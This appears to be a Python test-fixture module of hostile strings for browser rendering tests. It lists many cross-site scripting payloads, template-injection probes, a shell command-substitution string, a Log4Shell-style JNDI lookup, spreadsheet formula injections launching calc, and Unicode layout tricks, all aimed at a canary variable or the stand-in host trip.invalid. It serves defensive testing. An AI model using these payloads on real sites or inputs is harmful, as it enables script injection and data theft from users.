"""Texts that try to run, to navigate, to call out, to break the page's shape or to pass for its own data.

What runs sets `window.tripped`, or calls `alert`, or reaches for an address below `https://trip.invalid/`: the tripwire of the
browser tests hears all three. None of these strings is in use anywhere but in tests.
"""

from __future__ import annotations

RUN = "window.tripped=1"
OUT = "https://trip.invalid"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script src={OUT}/a.js></script>",
    f'<script type="module">import "{OUT}/b.js"; {RUN}</script>',
    f'<script type="importmap">{{"imports": {{"a": "{OUT}/c.js"}}}}</script>',
    f"</script><script>{RUN}</script>",
    f"</SCRIPT ><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
)
ENDINGS = (
    f"<!--<script>{RUN}//-->",
    f"--><script>{RUN}</script><!--",
    f"--!><img src=x onerror={RUN}>",
    "<!--",
    "<!-- <script",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"</textarea></title></style></noscript></template><script>{RUN}</script>",
    f"</summary></details></dialog></section></main></body></html><script>{RUN}</script>",
    f'"></code></span></p><img src=x onerror={RUN}>',
    f"<plaintext><xmp><listing><script>{RUN}</script>",
    f"<?xml-stylesheet href='{OUT}/d.xsl'?><?php echo 1 ?>",
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "{OUT}/e.dtd">]><x>&e;</x>',
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'<IMG SRC="x" ONERROR="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<svg onload={RUN}>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div style=animation-name:x onanimationstart={RUN}>",
    f"<a href=x autofocus tabindex=1 onfocus={RUN}>x</a>",
    f"<select autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>top.{RUN.removeprefix('window.')}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'>",
    f"<embed src={OUT}/f.swf>",
)
BREAKOUTS = (
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f"` onerror=`{RUN}",
    f'"><svg onload={RUN}>',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f'x" style="background:url({OUT}/g)',
    "&quot;&gt;&lt;b&gt;bold",
    f"';{RUN};'",
    f'";{RUN};"',
    f"\\';{RUN};//",
    f"'-alert(1)-'${{{RUN}}}`",
    f"\u2028{RUN}\u2029{RUN}//",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cudHJpcHBlZD0xPC9zY3JpcHQ+",
    f"vbscript:{RUN}",
    f'<a href="javascript:{RUN}">click</a>',
    f"[click](javascript:{RUN})",
    f"![x]({OUT}/h.png)",
    f"<{OUT}/i>",
    "//trip.invalid/j",
    f"{OUT}/k?q=%22%3E%3Cscript%3E",
    "@everyone @octocat #1 https://example.org www.example.org",
)
VECTORS = (
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='{OUT}/l.js'/></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><image href='{OUT}/m.png'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<table><td background={OUT}/n></td></table>",
    f"<template><script>{RUN}</script></template>",
)
HEADS = (
    f'<meta http-equiv="refresh" content="0;url={OUT}/o">',
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    f"<base href={OUT}/>",
    f"<link rel=stylesheet href={OUT}/p.css>",
    f"<link rel=prefetch href={OUT}/q>",
    f"<style>@import '{OUT}/r.css';*{{display:none}}</style>",
    f'<div style="background:url({OUT}/s);width:expression({RUN})">',
    f"-moz-binding:url({OUT}/t#x);behavior:url({OUT}/u)",
    f"}}</style><style>body{{background:url({OUT}/v)}}",
    f"<form action={OUT}/w><button autofocus>Go</button></form><isindex action={OUT}/x>",
    f"<portal src={OUT}/y></portal><frameset onload={RUN}>",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ 7 * 7 }}{% raw %}{% endraw %}{# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include 'page.html' %}{{ report.evaluation }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "%s %(name)s {0} {report.__class__} %n%x",
    "$(touch /tmp/tripped) `touch /tmp/tripped`",
    "${jndi:ldap://trip.invalid/z}",
)
SHAPES = (
    "abc\u202egnp.exe\u202c and \u2066isolated",
    "\u200f\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 and back \u200e",
    "zero\u200bwidth\u200cjoin\u200ders\u2060and\ufeffmarks",
    "a\x00b\x00\x00c",
    "\x1b[31mred\x1b[0m\x1b]8;;" + OUT + "\x07link\x1b]8;;\x07 bell\x07 back\x08\x08\x7f",
    "line\rreturn\r\nboth\n\rturned\x0bvertical\x0cform\x85next",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 12 + "alg" + "o\u0489\u0334\u0337" * 40,
    "e" + "\u0301" * 400,
    "unbroken" * 400,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041\U000e007f \ufffe \U0010ffff",
    "tab\tstop " * 60,
    " " * 300,
    "\n" * 200 + "far below",
)
SHEETS = (
    "=1+1",
    '=HYPERLINK("https://trip.invalid/aa","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    'quote " comma , semi ; and\nline',
)
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "then",
    "length",
    "null",
    "NaN",
)
OURS = (
    'goldgateBlock("t0",4,"!!!!")',
    '<script type="application/octet-stream" id="block-head" data-bytes="2">!!</script>',
    "block-head",
    '" id="list" data-bytes="0',
    "!#$%&'()*+,-./0123456789:;=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[]^_`abcdefghijklmnopqrstuvwxyz{|}~",
    '{"format":2,"rows":0,"columns":{}}',
    "#case=constructor&show=all&q=%3Cscript%3E",
    "[U+202E] [masked: password] and sha256:0000",
    "<details open><summary>folded</summary>text</details> <!-- bench: a --> | cell | ``` ''' </failure></testcase>",
)
POLYGLOT = (
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e"
)

HOSTILE = (
    *SCRIPTS,
    *ENDINGS,
    *HANDLERS,
    *BREAKOUTS,
    *LINKS,
    *VECTORS,
    *HEADS,
    *TEMPLATES,
    *SHAPES,
    *SHEETS,
    *NAMES,
    *OURS,
    POLYGLOT,
)

SURROGATES = ("lone \ud800 high", "\udfff low", "swapped \udc00\ud800 pair", f"\ud800<script>{RUN}</script>")
"""What no table can hold, but evaluation.json, a log or a commit's subject may."""

HUGE = (f"<script>{RUN}</script> " * 40_000)[:1_000_000]
"""An answer of a million characters."""
